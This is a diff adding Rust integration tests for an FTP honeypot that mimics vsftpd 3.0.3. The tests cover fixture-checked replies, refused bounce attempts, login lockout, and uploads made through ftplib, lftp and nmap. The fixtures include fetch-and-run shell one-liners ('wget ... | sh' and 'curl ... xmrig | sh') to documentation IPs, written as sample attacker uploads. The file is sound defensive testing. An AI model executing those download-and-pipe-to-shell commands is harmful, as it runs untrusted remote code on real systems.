@@ -1,0 +1,634 @@
+//! The FTP honeypot against a raw-socket client checked line by line against the
+//! replies of a real vsftpd 3.0.3 (`testdata/ftp/vsftpd-3.0.3/`), Python's `ftplib` in
+//! passive and active mode, and `lftp`; bounces, failed logins and hostile lines. Each
+//! test runs a real sensor on a loopback port with a pipeline collecting its events.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)] // tests panic on failure by design
+
+use std::net::SocketAddr;
+use std::path::Path;
+use std::sync::Arc;
+use std::time::Duration;
+
+use hpti_core::event::{Event, EventKind};
+use hpti_core::pipeline::{Pipeline, PipelineConfig};
+use hpti_core::testing::MemorySink;
+use hpti_sensors::ftp::{FtpConfig, FtpSensor};
+use hpti_sensors::honeypot::HoneypotConfig;
+use hpti_sensors::shell::Persona;
+use sha2::{Digest, Sha256};
+use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
+use tokio::net::TcpStream;
+
+/// Only to avoid hanging forever: no test measures time.
+const PATIENCE: Duration = Duration::from_secs(30);
+
+struct Harness {
+    addr: SocketAddr,
+    events: MemorySink,
+    pipeline: Option<Pipeline>,
+    dir: tempfile::TempDir,
+}
+
+impl Harness {
+    async fn start(ftp: impl FnOnce(&mut FtpConfig)) -> Self {
+        let dir = tempfile::tempdir().unwrap();
+        let mut persona = Persona::generate();
+        persona.seed >>= 1;
+        std::fs::write(
+            dir.path().join("persona.toml"),
+            toml::to_string_pretty(&persona).unwrap(),
+        )
+        .unwrap();
+        let events = MemorySink::new();
+        let mut config = PipelineConfig::with_dead_letter_path(dir.path().join("dlq.jsonl"));
+        config.batch.linger = Duration::from_millis(5);
+        let mut pipeline = Pipeline::builder(config)
+            .sink(
+                hpti_core::component::ComponentId::new("main").unwrap(),
+                Arc::new(events.clone()),
+            )
+            .start()
+            .unwrap();
+        let mut honeypot = HoneypotConfig::default();
+        honeypot.auth.userdb = vec!["root:x:hunter2".into()];
+        honeypot.fetch.enabled = false;
+        honeypot.limits.max_sessions_per_ip = 1000;
+        let mut config = FtpConfig {
+            listen: "127.0.0.1:0".parse().unwrap(),
+            login_failure_delay: Duration::from_millis(10),
+            passive_ports: [41000, 41999],
+            ..FtpConfig::default()
+        };
+        ftp(&mut config);
+        let sensor = FtpSensor::bind(
+            "ftp-test",
+            dir.path(),
+            config,
+            &honeypot,
+            pipeline.metrics(),
+        )
+        .await
+        .unwrap();
+        let addr = sensor.local_addr();
+        pipeline.spawn_source(
+            &hpti_core::component::ComponentId::new("test-source").unwrap(),
+            Arc::new(sensor),
+        );
+        Self {
+            addr,
+            events,
+            pipeline: Some(pipeline),
+            dir,
+        }
+    }
+
+    async fn wait_for(&self, what: &str, done: impl Fn(&[Event]) -> bool) -> Vec<Event> {
+        for _ in 0..1200 {
+            let events = self.events.events_by_time();
+            if done(&events) {
+                return events;
+            }
+            tokio::time::sleep(Duration::from_millis(25)).await;
+        }
+        panic!(
+            "timed out waiting for {what}: {:#?}",
+            self.events.events_by_time()
+        );
+    }
+
+    async fn wait_closed(&self, count: usize) -> Vec<Event> {
+        self.wait_for("session.closed", |e| {
+            e.iter()
+                .filter(|e| matches!(e.kind, EventKind::SessionClosed { .. }))
+                .count()
+                >= count
+        })
+        .await
+    }
+
+    fn data_dir(&self) -> &Path {
+        self.dir.path()
+    }
+
+    async fn stop(mut self) {
+        if let Some(pipeline) = self.pipeline.take() {
+            pipeline.shutdown().await;
+        }
+    }
+}
+
+/// A control connection read a reply at a time.
+struct Control {
+    reader: BufReader<tokio::net::tcp::OwnedReadHalf>,
+    writer: tokio::net::tcp::OwnedWriteHalf,
+}
+
+impl Control {
+    async fn connect(addr: SocketAddr) -> Self {
+        let stream = TcpStream::connect(addr).await.unwrap();
+        let (read, writer) = stream.into_split();
+        Self {
+            reader: BufReader::new(read),
+            writer,
+        }
+    }
+
+    /// One reply, all its lines (CRLFs checked and stripped).
+    async fn reply(&mut self) -> Vec<String> {
+        let mut lines: Vec<String> = Vec::new();
+        loop {
+            let mut line = String::new();
+            let n = tokio::time::timeout(PATIENCE, self.reader.read_line(&mut line))
+                .await
+                .expect("a reply in time")
+                .unwrap();
+            assert!(n > 0, "connection closed while reading a reply: {lines:?}");
+            assert!(line.ends_with("\r\n"), "every line ends in CRLF: {line:?}");
+            line.truncate(line.len() - 2);
+            let done = lines.is_empty() && line.as_bytes().get(3) == Some(&b' ')
+                || !lines.is_empty()
+                    && line.len() >= 4
+                    && line.as_bytes().get(3) == Some(&b' ')
+                    && line[..3] == lines[0][..3];
+            lines.push(line);
+            if done {
+                return lines;
+            }
+        }
+    }
+
+    async fn send(&mut self, line: &str) -> Vec<String> {
+        self.writer
+            .write_all(format!("{line}\r\n").as_bytes())
+            .await
+            .unwrap();
+        self.reply().await
+    }
+
+    async fn closed(&mut self) -> bool {
+        let mut rest = Vec::new();
+        matches!(
+            tokio::time::timeout(PATIENCE, self.reader.read_to_end(&mut rest)).await,
+            Ok(Ok(0))
+        )
+    }
+}
+
+/// The server lines of a capture (`S:`), in order, for the commands listed.
+fn captured(file: &str) -> String {
+    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../testdata/ftp/vsftpd-3.0.3")
+        .join(file);
+    std::fs::read_to_string(path).unwrap()
+}
+
+#[tokio::test]
+async fn before_login_it_answers_as_vsftpd_does() {
+    let harness = Harness::start(|_| {}).await;
+    let mut ftp = Control::connect(harness.addr).await;
+    let greeting = ftp.reply().await;
+    assert_eq!(greeting, vec!["220 (vsFTPd 3.0.3)"]);
+    let fixture = captured("pre-login.txt");
+    assert!(fixture.contains("S: 220 (vsFTPd 3.0.3)"));
+    for (command, expected) in [
+        ("SYST", "530 Please login with USER and PASS."),
+        ("HELP", "530 Please login with USER and PASS."),
+        ("LIST", "530 Please login with USER and PASS."),
+        ("AUTH TLS", "530 Please login with USER and PASS."),
+        ("FOO", "530 Please login with USER and PASS."),
+        ("OPTS UTF8 ON", "200 Always in UTF8 mode."),
+        ("PASS x", "503 Login with USER first."),
+        ("USER nosuchuser", "331 Please specify the password."),
+    ] {
+        let reply = ftp.send(command).await;
+        assert_eq!(reply, vec![expected.to_owned()], "{command}");
+        assert!(
+            fixture.contains(&format!("S: {expected}")),
+            "the capture of the real vsftpd has {expected:?}"
+        );
+    }
+    let feat = ftp.send("FEAT").await;
+    let expected: Vec<String> = [
+        "211-Features:",
+        " EPRT",
+        " EPSV",
+        " MDTM",
+        " PASV",
+        " REST STREAM",
+        " SIZE",
+        " TVFS",
+        "211 End",
+    ]
+    .map(String::from)
+    .to_vec();
+    assert_eq!(feat, expected);
+    for line in &expected {
+        assert!(
+            fixture.contains(&format!("S: {line}\n")),
+            "{line:?} as captured"
+        );
+    }
+    assert_eq!(ftp.send("QUIT").await, vec!["221 Goodbye."]);
+    assert!(ftp.closed().await);
+    harness.stop().await;
+}
+
+#[tokio::test]
+async fn anonymous_sessions_read_but_never_write() {
+    let harness = Harness::start(|_| {}).await;
+    let mut ftp = Control::connect(harness.addr).await;
+    ftp.reply().await;
+    assert_eq!(
+        ftp.send("USER anonymous").await,
+        vec!["331 Please specify the password."]
+    );
+    assert_eq!(
+        ftp.send("PASS IEUser@").await,
+        vec!["230 Login successful."]
+    );
+    assert_eq!(ftp.send("SYST").await, vec!["215 UNIX Type: L8"]);
+    assert_eq!(
+        ftp.send("PWD").await,
+        vec!["257 \"/\" is the current directory"]
+    );
+    assert_eq!(
+        ftp.send("CWD /etc").await,
+        vec!["550 Failed to change directory."],
+        "the anonymous root is a chroot"
+    );
+    for command in ["STOR x", "DELE x", "MKD x", "SITE HELP", "RNFR x"] {
+        assert_eq!(ftp.send(command).await, vec!["550 Permission denied."]);
+    }
+    assert_eq!(ftp.send("MLSD").await, vec!["500 Unknown command."]);
+    assert_eq!(
+        ftp.send("TYPE X").await,
+        vec!["500 Unrecognised TYPE command."]
+    );
+    assert_eq!(ftp.send("LIST").await, vec!["425 Use PORT or PASV first."]);
+    let status = ftp.send("STAT").await;
+    assert_eq!(status[0], "211-FTP server status:");
+    assert_eq!(status[1], "     Connected to 127.0.0.1");
+    assert_eq!(status[2], "     Logged in as ftp");
+    assert_eq!(status.last().unwrap(), "211 End of status");
+    let help = ftp.send("HELP").await;
+    let fixture = captured("anonymous.txt");
+    for line in &help {
+        assert!(
+            fixture.contains(&format!("S: {line}\n")),
+            "{line:?} as captured"
+        );
+    }
+    ftp.send("QUIT").await;
+    let events = harness.wait_closed(1).await;
+    assert!(events.iter().any(|e| matches!(
+        &e.kind,
+        EventKind::LoginAttempt { username, success: true, .. } if username == "anonymous"
+    )));
+    assert!(events.iter().any(|e| matches!(
+        &e.kind,
+        EventKind::CommandInput { command } if command == "CWD /etc"
+    )));
+    harness.stop().await;
+}
+
+#[tokio::test]
+async fn a_bounce_is_refused_and_recorded_and_nothing_connects() {
+    let harness = Harness::start(|_| {}).await;
+    // A listener standing for the third party: nothing may connect to it.
+    let victim = tokio::net::TcpListener::bind("127.0.0.2:0").await.unwrap();
+    let victim_port = victim.local_addr().unwrap().port();
+    let mut ftp = Control::connect(harness.addr).await;
+    ftp.reply().await;
+    ftp.send("USER root").await;
+    assert_eq!(
+        ftp.send("PASS hunter2").await,
+        vec!["230 Login successful."]
+    );
+    let port = format!("PORT 127,0,0,2,{},{}", victim_port >> 8, victim_port & 0xff);
+    assert_eq!(ftp.send(&port).await, vec!["500 Illegal PORT command."]);
+    assert_eq!(
+        ftp.send(&format!("EPRT |1|127.0.0.2|{victim_port}|")).await,
+        vec!["500 Illegal EPRT command."]
+    );
+    assert_eq!(
+        ftp.send("PORT 127,0,0,1,0,80").await,
+        vec!["500 Illegal PORT command."],
+        "a privileged port of the client itself"
+    );
+    assert_eq!(ftp.send("LIST").await, vec!["425 Use PORT or PASV first."]);
+    assert!(
+        tokio::time::timeout(Duration::from_millis(300), victim.accept())
+            .await
+            .is_err(),
+        "no connection to the third party"
+    );
+    ftp.send("QUIT").await;
+    let events = harness.wait_closed(1).await;
+    let bounces: Vec<_> = events
+        .iter()
+        .filter_map(|e| match &e.kind {
+            EventKind::PortForward {
+                host,
+                port,
+                accepted,
+            } => Some((host.clone(), *port, *accepted)),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(
+        bounces,
+        vec![
+            ("127.0.0.2".to_owned(), victim_port, false),
+            ("127.0.0.2".to_owned(), victim_port, false)
+        ]
+    );
+    harness.stop().await;
+}
+
+#[tokio::test]
+async fn the_third_failed_login_closes_the_connection() {
+    let harness = Harness::start(|_| {}).await;
+    let mut ftp = Control::connect(harness.addr).await;
+    ftp.reply().await;
+    for attempt in 1..=3 {
+        ftp.send("USER root").await;
+        assert_eq!(
+            ftp.send(&format!("PASS wrong{attempt}")).await,
+            vec!["530 Login incorrect."]
+        );
+        if attempt < 3 {
+            assert_eq!(
+                ftp.send("PASS again").await,
+                vec!["503 Login with USER first."]
+            );
+        }
+    }
+    assert!(
+        ftp.closed().await,
+        "closed after the third failure, as max_login_fails=3"
+    );
+    let events = harness.wait_closed(1).await;
+    let failed = events
+        .iter()
+        .filter(|e| matches!(&e.kind, EventKind::LoginAttempt { success: false, .. }))
+        .count();
+    assert_eq!(failed, 3, "each attempt recorded once");
+    harness.stop().await;
+}
+
+#[tokio::test]
+async fn a_line_without_lf_in_4096_bytes_is_refused_and_closed() {
+    let harness = Harness::start(|_| {}).await;
+    let mut ftp = Control::connect(harness.addr).await;
+    ftp.reply().await;
+    let mut fine = "A".repeat(4094);
+    assert_eq!(
+        ftp.send(&fine).await,
+        vec!["530 Please login with USER and PASS."]
+    );
+    fine.push('A');
+    ftp.writer.write_all(fine.as_bytes()).await.unwrap();
+    ftp.writer.write_all(b"\r\n").await.unwrap();
+    assert_eq!(ftp.reply().await, vec!["500 Input line too long."]);
+    assert!(ftp.closed().await);
+    assert!(captured("line-length.txt").contains("S: 500 Input line too long."));
+    harness.stop().await;
+}
+
+fn python_ftplib_available() -> bool {
+    std::process::Command::new("python3")
+        .args(["-c", "import ftplib"])
+        .output()
+        .is_ok_and(|o| o.status.success())
+}
+
+fn tool_missing(tool: &str) {
+    assert!(
+        std::env::var("HPTI_REQUIRE_SERVICES").as_deref() != Ok("1"),
+        "{tool} is required (HPTI_REQUIRE_SERVICES=1)"
+    );
+    eprintln!("SKIPPED: {tool} is not installed");
+}
+
+/// Python's ftplib: login, mkdir, upload (passive and active), listing, download.
+#[tokio::test]
+async fn python_ftplib_uploads_lists_and_downloads_in_both_modes() {
+    if !python_ftplib_available() {
+        return tool_missing("python3");
+    }
+    let harness = Harness::start(|_| {}).await;
+    let script = r##"
+import ftplib, io, sys
+host, port = sys.argv[1], int(sys.argv[2])
+payload = b"#!/bin/sh\nwget http://203.0.113.5/x.sh -O- | sh\n" * 50
+ftp = ftplib.FTP()
+ftp.connect(host, port, timeout=20)
+print("WELCOME", ftp.getwelcome())
+print("LOGIN", ftp.login("root", "hunter2"))
+print("MKD", ftp.mkd("drop"))
+ftp.cwd("drop")
+print("PWD", ftp.pwd())
+print("STOR", ftp.storbinary("STOR bot.sh", io.BytesIO(payload)))
+ftp.set_pasv(False)
+print("STOR-ACTIVE", ftp.storbinary("STOR second.bin", io.BytesIO(b"\x7fELF" + bytes(range(256)))))
+ftp.set_pasv(True)
+lines = []
+ftp.retrlines("LIST", lines.append)
+for line in lines:
+    print("LIST", line)
+print("NLST", sorted(ftp.nlst()))
+got = io.BytesIO()
+ftp.retrbinary("RETR bot.sh", got.write)
+print("RETR-SAME", got.getvalue() == payload)
+print("SIZE", ftp.size("bot.sh"))
+print("QUIT", ftp.quit())
+"##;
+    let port = harness.addr.port().to_string();
+    let output = tokio::task::spawn_blocking(move || {
+        std::process::Command::new("python3")
+            .args(["-c", script, "127.0.0.1", &port])
+            .output()
+            .unwrap()
+    })
+    .await
+    .unwrap();
+    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+    assert!(
+        output.status.success(),
+        "ftplib failed: {stdout}\n{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    for expected in [
+        "WELCOME 220 (vsFTPd 3.0.3)",
+        "LOGIN 230 Login successful.",
+        "STOR 226 Transfer complete.",
+        "STOR-ACTIVE 226 Transfer complete.",
+        "RETR-SAME True",
+        "SIZE 2400",
+        "QUIT 221 Goodbye.",
+        "NLST ['bot.sh', 'second.bin']",
+    ] {
+        assert!(stdout.contains(expected), "{expected:?} in {stdout}");
+    }
+    let mkd = stdout.lines().find(|l| l.starts_with("MKD ")).unwrap();
+    assert!(mkd.ends_with("/drop"), "{mkd}");
+    let listing: Vec<&str> = stdout.lines().filter(|l| l.starts_with("LIST ")).collect();
+    assert_eq!(listing.len(), 2, "{listing:?}");
+    assert!(
+        listing[0].starts_with("LIST -rw-r--r--    1 0        0            2400 ")
+            && listing[0].ends_with(" bot.sh"),
+        "{listing:?}"
+    );
+    let events = harness.wait_closed(1).await;
+    let uploads: Vec<(String, Option<String>, Option<u64>)> = events
+        .iter()
+        .filter_map(|e| match &e.kind {
+            EventKind::FileUpload {
+                filename,
+                sha256,
+                size,
+            } => Some((filename.clone(), sha256.clone(), *size)),
+            _ => None,
+        })
+        .collect();
+    let payload = b"#!/bin/sh\nwget http://203.0.113.5/x.sh -O- | sh\n".repeat(50);
+    let digest = format!("{:x}", Sha256::digest(&payload));
+    assert!(
+        uploads
+            .iter()
+            .any(|(name, sha, size)| name.ends_with("/drop/bot.sh")
+                && sha.as_deref() == Some(digest.as_str())
+                && *size == Some(2400)),
+        "{uploads:?}"
+    );
+    assert_eq!(uploads.len(), 2, "{uploads:?}");
+    // Stored by digest under the data directory, not executable, nowhere else.
+    let stored = walk(&harness.data_dir().join("artifacts"))
+        .into_iter()
+        .find(|p| p.file_name().is_some_and(|n| n.to_string_lossy() == digest))
+        .expect("the upload is in the artifact store by its sha256");
+    assert_eq!(std::fs::read(&stored).unwrap(), payload);
+    use std::os::unix::fs::PermissionsExt;
+    assert_eq!(
+        std::fs::metadata(&stored).unwrap().permissions().mode() & 0o111,
+        0
+    );
+    assert!(!harness.data_dir().join("drop").exists());
+    harness.stop().await;
+}
+
+fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
+    let mut out = Vec::new();
+    let Ok(entries) = std::fs::read_dir(dir) else {
+        return out;
+    };
+    for entry in entries.flatten() {
+        let path = entry.path();
+        if path.is_dir() {
+            out.extend(walk(&path));
+        } else {
+            out.push(path);
+        }
+    }
+    out
+}
+
+/// lftp, as an attacker's script would drive it: login, put, ls, get.
+#[tokio::test]
+async fn lftp_puts_lists_and_gets() {
+    if std::process::Command::new("lftp")
+        .arg("--version")
+        .output()
+        .is_err()
+    {
+        return tool_missing("lftp");
+    }
+    let harness = Harness::start(|_| {}).await;
+    let work = tempfile::tempdir().unwrap();
+    std::fs::write(
+        work.path().join("miner.sh"),
+        b"curl -s http://198.51.100.7/xmrig | sh\n",
+    )
+    .unwrap();
+    let commands = format!(
+        "set net:max-retries 1; set net:timeout 10; set ftp:ssl-allow no; \
+         open -u root,hunter2 -p {} 127.0.0.1; put miner.sh; ls; get miner.sh -o back.sh; bye",
+        harness.addr.port()
+    );
+    let cwd = work.path().to_owned();
+    let output = tokio::task::spawn_blocking(move || {
+        std::process::Command::new("lftp")
+            .args(["-c", &commands])
+            .current_dir(cwd)
+            .output()
+            .unwrap()
+    })
+    .await
+    .unwrap();
+    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+    assert!(
+        output.status.success(),
+        "lftp failed: {stdout}\n{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    assert!(
+        stdout.contains(" miner.sh"),
+        "ls shows the upload: {stdout}"
+    );
+    assert_eq!(
+        std::fs::read(work.path().join("back.sh")).unwrap(),
+        b"curl -s http://198.51.100.7/xmrig | sh\n"
+    );
+    let events = harness.wait_closed(1).await;
+    assert!(events.iter().any(|e| matches!(
+        &e.kind,
+        EventKind::FileUpload { filename, sha256: Some(_), .. } if filename.ends_with("miner.sh")
+    )));
+    harness.stop().await;
+}
+
+/// `nmap -sV -sC`: the version scan names vsftpd 3.0.3 and the default scripts see an
+/// anonymous vsftpd, as on the real one (`testdata/ftp/vsftpd-3.0.3/nmap.txt`).
+#[tokio::test]
+async fn nmap_names_it_vsftpd_3_0_3() {
+    if std::process::Command::new("nmap")
+        .arg("--version")
+        .output()
+        .is_err()
+    {
+        return tool_missing("nmap");
+    }
+    let harness = Harness::start(|_| {}).await;
+    let port = harness.addr.port().to_string();
+    let output = tokio::task::spawn_blocking(move || {
+        std::process::Command::new("nmap")
+            .args(["-sV", "-sC", "-Pn", "-n", "-p", &port, "127.0.0.1"])
+            .output()
+            .unwrap()
+    })
+    .await
+    .unwrap();
+    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+    let real = captured("nmap.txt");
+    for expected in [
+        "/tcp open  ftp     vsftpd 3.0.3",
+        // `|` or `|_` before the script's name: the scripts' order varies by run.
+        "ftp-anon: Anonymous FTP login allowed (FTP code 230)",
+        "ftp-syst: ",
+        "|      Logged in as ftp",
+        "|      vsFTPd 3.0.3 - secure, fast, stable",
+        "End of status",
+        "Service Info: OS: Unix",
+    ] {
+        assert!(
+            stdout.contains(expected),
+            "{expected:?} in nmap's output:\n{stdout}"
+        );
+        assert!(
+            real.contains(expected),
+            "{expected:?} as against the real vsftpd"
+        );
+    }
+    harness.stop().await;
+}
